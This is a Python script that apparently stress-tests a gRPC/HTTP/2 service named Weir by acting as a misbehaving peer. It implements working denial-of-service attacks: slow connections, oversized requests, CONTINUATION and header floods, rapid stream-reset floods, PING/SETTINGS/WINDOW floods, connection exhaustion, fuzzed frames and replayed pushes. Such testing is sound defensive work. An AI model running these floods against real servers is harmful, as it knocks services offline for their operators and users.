"""A misbehaving peer over plain sockets. It builds HTTP/2 by hand, so that it can be wrong.

    attacker.py MODE HOST:PORT SECONDS      at the end prints its actions and processor time as JSON

    slow       connections that send nothing, half a header, or a request byte by byte;
               reopened when closed
    oversized  requests that announce 2 GiB, or have the maximum size and never end, 64 at
               once; metadata of 64 KiB; HTTP/2 frames of 16 MiB
    malformed  random bytes instead of HTTP/2, headers, protobuf, and Weir's frames, some with
               the right checksum
    replay     an applied push, repeated unchanged

    Floods, over one connection at a time, at full speed:
    continuation   a header block that never ends: one header of a gigabyte
    headers        a header block that never ends: countless headers
    reset          calls that are reset at once
    ping, settings, window, priority, empty    frames of that kind; empty: DATA of no bytes

    connections    silent connections, as many as the server accepts
    calls          connections that make one call and then stay silent, likewise

    TLS=CERTIFICATE,KEY,CA: by TLS, with that certificate ("": with none); -: in plain text
"""
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MESSAGE_MAX = 4 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(n):  # HPACK integer with a 7-bit prefix
    if n < 127:
        return bytes([n])
    out, n = b"\x7f", n - 127
    while n >= 128:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])


def headers(path, extra=()):
    pairs = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"), (b"te", b"trailers"), (b"content-type", b"application/grpc"), *extra]
    return b"".join(b"\0" + number(len(k)) + k + number(len(v)) + v for k, v in pairs)


def grpc(body):
    return b"\0" + struct.pack(">I", len(body)) + body


def tls_context():
    certificate, key, ca = os.environ["TLS"].split(",")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if certificate:
        context.load_cert_chain(certificate, key)
    return context


CONTEXT = tls_context() if os.environ.get("TLS", "-") != "-" else None


def connect(address):
    s = socket.create_connection(address, 5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s = CONTEXT.wrap_socket(s) if CONTEXT else s
    s.settimeout(30)
    return s


class Peer:
    """A connection that follows HTTP/2 as far as its caller does. `windows`: bytes each stream may
    send."""

    def __init__(self, address, polite=True):
        self.socket = connect(address)
        self.open, self.input, self.stream, self.windows, self.initial, self.replies = True, b"", -1, {0: 65535}, 65535, {}
        if polite:
            self.send(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW, 0, 0, struct.pack(">I", 1 << 24)))

    def send(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            self.open = False

    def pump(self, seconds=0.0):
        """Reads arrived frames, and answers those that need it."""
        ready = select.poll()  # select() cannot handle descriptors above 1,023
        ready.register(self.socket, select.POLLIN)
        while self.open and (getattr(self.socket, "pending", int)() or ready.poll(1000 * seconds)):
            try:
                data = self.socket.recv(1 << 16)
            except OSError:
                data = b""
            self.open, self.input, seconds = bool(data), self.input + data, 0.0
            while len(self.input) >= 9:
                length, kind, flags, stream = int.from_bytes(self.input[:3], "big"), self.input[3], self.input[4], int.from_bytes(self.input[5:9], "big") & 0x7FFFFFFF
                if len(self.input) < 9 + length:
                    break
                payload, self.input = self.input[9:9 + length], self.input[9 + length:]
                self.take(kind, flags, stream, payload)

    def take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                key, value = struct.unpack_from(">HI", payload, at)
                self.initial = value if key == 4 else self.initial
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW:
            self.windows[stream] = self.windows.get(stream, self.initial) + struct.unpack(">I", payload)[0]
        elif kind == DATA:
            self.replies[stream] = self.replies.get(stream, b"") + payload
        elif kind == RST or kind == HEADERS and flags & END_STREAM:
            self.windows[stream] = None  # the stream has ended
            self.replies.setdefault(stream, b"")
        elif kind == GOAWAY:
            self.open = False

    def begin(self, path, extra=()):
        self.stream += 2
        self.windows[self.stream] = self.initial
        block = headers(path, extra)
        self.send(frame(HEADERS, END_HEADERS if len(block) <= 16384 else 0, self.stream, block[:16384]))
        for at in range(16384, len(block), 16384):
            self.send(frame(9, END_HEADERS if at + 16384 >= len(block) else 0, self.stream, block[at:at + 16384]))
        return self.stream

    def body(self, stream, data, end):
        """Sends as much as the windows allow; returns the number of bytes."""
        room = min(self.windows.get(stream) or 0, self.windows[0], 16384, len(data))
        if room > 0:
            self.windows[stream] -= room
            self.windows[0] -= room
            self.send(frame(DATA, END_STREAM if end and room == len(data) else 0, stream, data[:room]))
        return room

    def call(self, path, body, seconds=5.0):
        """A complete unary call; returns the answer's message."""
        stream, data, until = self.begin(path), grpc(body), time.monotonic() + seconds
        while self.open and time.monotonic() < until and not (stream in self.replies and self.windows.get(stream) is None):
            if data:
                data = data[self.body(stream, data, True):]
            self.pump(0.0 if data else 0.1)
        return self.replies.pop(stream, b"")[5:]


# --- The parts of protobuf and of Weir's frames that the modes need


def field(number_, value):
    if isinstance(value, int):
        return varint(number_ << 3) + varint(value)
    return varint(number_ << 3 | 2) + varint(len(value)) + value


def varint(n):
    out = b""
    while n >= 128:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])


def fields(message):
    at, out = 0, {}

    def read():
        nonlocal at
        n, shift = 0, 0
        while True:
            n, shift, at = n | (message[at] & 127) << shift, shift + 7, at + 1
            if message[at - 1] < 128:
                return n
    while at < len(message):
        key = read()
        if key & 7 == 0:
            out[key >> 3] = read()
        else:
            size = {1: 8, 5: 4}.get(key & 7) or read()
            out[key >> 3], at = message[at:at + size], at + size
    return out


TABLE = []
for i in range(256):
    for _ in range(8):
        i = i >> 1 ^ 0x82F63B78 * (i & 1)
    TABLE.append(i)


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = crc >> 8 ^ TABLE[(crc ^ byte) & 255]
    return crc ^ 0xFFFFFFFF


def with_crc(header, at, rest=b""):
    return header[:at] + struct.pack("<I", crc32c(header + rest)) + header[at + 4:] + rest


def weir_frame(job, *records):
    body = b"".join(records)
    return with_crc(struct.pack("<IBBHIIQQ16s", 0x31524957, 1, 0, 0, len(records), 0, len(body), job.get(2, 0), job[1]), 12) + body


def push_of_first_batch(partition):
    section = struct.pack("<HBBHHIIIIQ", 0, 0, 0, 0, 0, 0, 8, 0, 0, 0)
    return with_crc(struct.pack("<IIBBHHHQIIIIQQII", 64 + len(section), 0, 1, 0, partition, 1, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0), 4, section)


def join(peer):
    """Joins as an observer: returns the job, and its number of partitions."""
    reply = fields(peer.call(b"/weir.v1.Ledger/Join", field(2, 1) + field(3, 2) + field(4, b"attacker") + field(5, b"here")))
    return fields(reply[2]), reply[6]


# --- The modes


def slow(address, until, did):
    peers = []
    while time.monotonic() < until:
        gone = [p for p in peers if not p.open]
        did["closed_by_server"] = did.get("closed_by_server", 0) + len(gone)
        peers = [p for p in peers if p.open]
        while len(peers) < 150:
            kind = did["opened"] = did.get("opened", 0) + 1
            p = Peer(address, polite=kind % 3 != 0)
            if kind % 3 == 1:
                p.send(frame(HEADERS, 0, 1, headers(b"/weir.v1.ParameterServer/Push")[:20]))
            elif kind % 3 == 2:
                p.rest = grpc(bytes(1000))
                p.one = p.begin(b"/weir.v1.ParameterServer/Push")
            peers.append(p)
        for p in peers:
            p.pump()
            if getattr(p, "rest", b"") and random.random() < 0.2:
                p.rest = p.rest[1:] if p.body(p.one, p.rest[:1], False) else b""
        time.sleep(0.02)


def oversized(address, until, did):
    while time.monotonic() < until:
        p = Peer(address)
        p.pump(0.2)
        p.begin(b"/weir.v1.ParameterServer/Push", [(b"x-%d" % i, bytes([97 + i % 26]) * 4096) for i in range(16)])
        stream = p.begin(b"/weir.v1.ParameterServer/Push")
        p.body(stream, b"\0\x7f\xff\xff\xff" + bytes(1000), False)
        held = {p.begin(b"/weir.v1.ParameterServer/Push"): grpc(bytes(MESSAGE_MAX - 100)) for _ in range(64)}
        held = {s: data[:-1] for s, data in held.items()}  # its last byte never comes
        end = min(until, time.monotonic() + 3)
        while p.open and time.monotonic() < end:
            p.pump(0.01)
            for s in list(held):
                if p.windows.get(s) is None:
                    held.pop(s)
                else:
                    held[s] = held[s][p.body(s, held[s], False):]
        did["sent"] = did.get("sent", 0) + 1
        p.send(struct.pack(">I", (1 << 24) - 1)[1:] + b"\0\0\0\0\0\1" + bytes(100000))
        p.pump(0.1)
        p.socket.close()


def malformed(address, until, did):
    noise = random.Random(7)
    first = Peer(address)
    job, _ = join(first)
    while time.monotonic() < until:
        kind = did["sent"] = did.get("sent", 0) + 1
        if kind % 16 == 0:
            p = Peer(address, polite=False)
            p.send(noise.randbytes(500) if kind % 32 else PREFACE + noise.randbytes(500))
            p.pump(0.05)
            p.socket.close()
            continue
        if not first.open:
            first = Peer(address)
        junk = noise.randbytes(noise.randrange(1, 400))
        record = push_of_first_batch(0)
        wrong = bytearray(record)
        wrong[noise.randrange(len(wrong))] ^= 1 << noise.randrange(8)
        resigned = with_crc(bytes(wrong[:64]), 4, bytes(wrong[64:]))
        body = [junk, field(1, junk), field(1, weir_frame(job, bytes(wrong))), field(1, weir_frame(job, resigned)), field(1, weir_frame(job, record)[:-noise.randrange(1, 90)])]
        first.call(noise.choice([b"/weir.v1.ParameterServer/Push", b"/weir.v1.ParameterServer/Pull", b"/weir.v1.Ledger/Commit", b"/weir.v1.Replica/Nothing"]), noise.choice(body), 1.0)


def replay(address, until, did):
    p = Peer(address)
    job, partitions = join(p)
    pushes = [field(1, weir_frame(job, push_of_first_batch(i))) for i in range(partitions)]
    while time.monotonic() < until:
        if not p.open:
            p = Peer(address)
        answer = p.call(b"/weir.v1.ParameterServer/Push", pushes[did.get("sent", 0) % partitions])
        status = struct.unpack_from("<I", fields(answer).get(1, b""), 48 + 56)[0] if answer else "none"
        did["sent"] = did.get("sent", 0) + 1
        did.setdefault("answers", {}).setdefault(str(status), 0)
        did["answers"][str(status)] += 1


# --- Floods


def endless(address, until, did, first, chunk):
    """One connection after another: sends `first`, then `chunk` repeatedly."""
    while time.monotonic() < until:
        p = Peer(address)
        p.pump(0.2)
        did["opened"] = did.get("opened", 0) + 1
        p.send(first)
        while p.open and time.monotonic() < until:
            p.send(chunk)
            did["bytes"] = did.get("bytes", 0) + len(chunk)
            p.pump()
        did["cut"] = did.get("cut", 0) + (not p.open)
        p.socket.close()


def continuation(address, until, did):
    block = headers(b"/weir.v1.ParameterServer/Push") + b"\0\x01x" + number(1 << 30)
    endless(address, until, did, frame(HEADERS, 0, 1, block), frame(9, 0, 1, bytes(16384)) * 16)


def endless_headers(address, until, did):
    endless(address, until, did, frame(HEADERS, 0, 1, headers(b"/weir.v1.ParameterServer/Push")), frame(9, 0, 1, b"\0\x01x\x01y" * 3200) * 16)


def reset(address, until, did):
    block = headers(b"/weir.v1.ParameterServer/Push")
    while time.monotonic() < until:
        p = Peer(address)
        p.pump(0.2)
        did["opened"] = did.get("opened", 0) + 1
        stream = 1
        while p.open and time.monotonic() < until and stream < 1 << 30:
            out = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST, 0, s, b"\0\0\0\x08") for s in range(stream, stream + 200, 2))
            stream += 200
            did["calls"] = did.get("calls", 0) + 100
            p.send(out)
            p.pump()
        did["cut"] = did.get("cut", 0) + (not p.open)
        p.socket.close()


def frames(one):
    def flood(address, until, did):
        endless(address, until, did, b"", one * 500)
    return flood


def empty(address, until, did):
    endless(address, until, did, frame(HEADERS, END_HEADERS, 1, headers(b"/weir.v1.ParameterServer/PushStream")), frame(DATA, 0, 1) * 500)


def hold(address, until, did, calls):
    held = []
    while time.monotonic() < until:
        try:
            if calls:
                p = Peer(address)
                p.call(b"/grpc.health.v1.Health/Check", b"", 2.0)
                held.append(p.socket)
            else:
                held.append(connect(address))
            did["opened"] = did.get("opened", 0) + 1
        except OSError as e:
            did["refused"], did["why"] = did.get("refused", 0) + 1, repr(e)[:80]
            time.sleep(0.01)
            if len(held) > 1000000 or getattr(e, "errno", 0) == 24:  # out of descriptors
                time.sleep(0.2)
    alive = 0
    for s in held:
        s.setblocking(False)
        try:
            alive += s.recv(1 << 16) != b""
        except (BlockingIOError, ssl.SSLWantReadError):
            alive += 1
        except OSError:
            pass
    did["held"] = alive


MODES = {
    "slow": slow, "oversized": oversized, "malformed": malformed, "replay": replay, "continuation": continuation, "headers": endless_headers, "reset": reset,
    "ping": frames(frame(PING, 0, 0, bytes(8))), "settings": frames(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))), "window": frames(frame(WINDOW, 0, 0, struct.pack(">I", 1))),
    "priority": frames(frame(2, 0, 1, struct.pack(">IB", 0, 1))), "empty": empty,
    "connections": lambda a, u, d: hold(a, u, d, False), "calls": lambda a, u, d: hold(a, u, d, True),
}
mode, (host, port), seconds = sys.argv[1], sys.argv[2].rsplit(":", 1), float(sys.argv[3])
what = {"mode": mode}
began = time.monotonic()
while time.monotonic() < began + seconds:
    try:
        if mode in MODES:
            MODES[mode]((host, int(port)), began + seconds, what)
    except (OSError, KeyError, IndexError, struct.error) as e:  # the server closed the connection
        what["given_up"], what["why"] = what.get("given_up", 0) + 1, repr(e)[:80]
        time.sleep(0.05)
what["cpu_s"] = round(sum(os.times()[:2]), 3)
print(json.dumps(what))
